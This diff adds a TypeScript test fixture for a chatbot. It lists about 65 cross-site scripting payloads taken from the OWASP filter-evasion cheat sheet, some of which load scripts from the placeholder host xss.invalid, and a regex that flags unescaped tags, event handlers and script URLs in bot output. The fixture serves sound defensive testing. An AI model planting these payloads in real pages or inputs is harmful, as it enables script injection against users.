@@ -1,0 +1,81 @@
+/**
+ * Payloads from the OWASP XSS Filter Evasion Cheat Sheet (a representative 60), each of which sets
+ * `window.__xss` if it ever runs. Used as chatbot questions and as a fake model's answers.
+ */
+const RUN = "window.__xss=1";
+
+export const XSS_PAYLOADS: string[] = [
+  `<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>`,
+  `<script>${RUN}</script>`,
+  `'';!--"<XSS>=&{()}`,
+  `<IMG SRC="javascript:${RUN};">`,
+  `<IMG SRC=javascript:${RUN}>`,
+  `<IMG SRC=JaVaScRiPt:${RUN}>`,
+  `<IMG SRC=\`javascript:${RUN}\`>`,
+  `<a onmouseover="${RUN}">xxs link</a>`,
+  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+  `<IMG SRC=javascript:String.fromCharCode(88,83,83)>`,
+  `<IMG SRC=# onmouseover="${RUN}">`,
+  `<IMG SRC= onmouseover="${RUN}">`,
+  `<IMG onmouseover="${RUN}">`,
+  `<IMG SRC=/ onerror="${RUN}"></img>`,
+  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}">`,
+  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}>`,
+  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}>`,
+  `<IMG SRC="jav	ascript:${RUN};">`,
+  `<IMG SRC="jav&#x09;ascript:${RUN};">`,
+  `<IMG SRC="jav&#x0A;ascript:${RUN};">`,
+  `<IMG SRC=" &#14;  javascript:${RUN};">`,
+  `<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>`,
+  `<BODY onload!#$%&()*~+-_.,:;?@[/|]^\`=${RUN}>`,
+  `<<SCRIPT>${RUN};//<</SCRIPT>`,
+  `<SCRIPT SRC=//xss.invalid/.j>`,
+  `<IMG SRC="\`<javascript:${RUN}>\`"`,
+  `<iframe src=https://xss.invalid/scriptlet.html <`,
+  `</TITLE><SCRIPT>${RUN};</SCRIPT>`,
+  `<INPUT TYPE="IMAGE" SRC="javascript:${RUN};">`,
+  `<BODY BACKGROUND="javascript:${RUN}">`,
+  `<IMG DYNSRC="javascript:${RUN}">`,
+  `<IMG LOWSRC="javascript:${RUN}">`,
+  `<STYLE>li {list-style-image: url("javascript:${RUN}");}</STYLE><UL><LI>XSS</br>`,
+  `<IMG SRC='vbscript:msgbox("XSS")'>`,
+  `<svg/onload=${RUN}>`,
+  `<BODY ONLOAD=${RUN}>`,
+  `<BGSOUND SRC="javascript:${RUN};">`,
+  `<LINK REL="stylesheet" HREF="javascript:${RUN};">`,
+  `<STYLE>@import'https://xss.invalid/xss.css';</STYLE>`,
+  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${RUN};">`,
+  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
+  `<IFRAME SRC="javascript:${RUN};"></IFRAME>`,
+  `<IFRAME SRC=# onmouseover="${RUN}"></IFRAME>`,
+  `<FRAMESET><FRAME SRC="javascript:${RUN};"></FRAMESET>`,
+  `<TABLE BACKGROUND="javascript:${RUN}">`,
+  `<TABLE><TD BACKGROUND="javascript:${RUN}">`,
+  `<DIV STYLE="background-image: url(javascript:${RUN})">`,
+  `<DIV STYLE="width: expression(${RUN});">`,
+  `<IMG STYLE="xss:expr/*XSS*/ession(${RUN})">`,
+  `<BASE HREF="javascript:${RUN};//">`,
+  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.invalid/scriptlet.html"></OBJECT>`,
+  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
+  `<a href="javascript:${RUN}">click</a>`,
+  `<a href="jAvAsCrIpT&colon;${RUN}">click</a>`,
+  `<a href="&#106;avascript:${RUN}">click</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">click</a>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<details open ontoggle="${RUN}">`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<body><p>ok</p><img src=x onerror=${RUN}></body>`,
+  `"><img src=x onerror=${RUN}>`,
+  `<form><button formaction="javascript:${RUN}">go</button></form>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<marquee onstart="${RUN}">`,
+  `EMI kya hai <script>${RUN}</script> please batao`,
+  `what is emi <img src=x onerror=${RUN}> for 5 lakh`,
+];
+
+/**
+ * What must never be found in stored or streamed bot output: a real (unescaped) dangerous element, an event
+ * handler inside a tag, or a link to a script URL. Escaped text such as "&lt;script&gt;" is inert and allowed.
+ */
+export const UNSAFE =
+  /<\s*\/?\s*(script|iframe|object|embed|img|svg|math|style|meta|link|base|form|input|body|video|frame|frameset|table|div|bgsound|details|marquee|button|source)\b|<[^>]*\son\w+\s*=|(href|src|action|formaction)\s*=\s*["']?\s*(javascript|vbscript|data):/i;
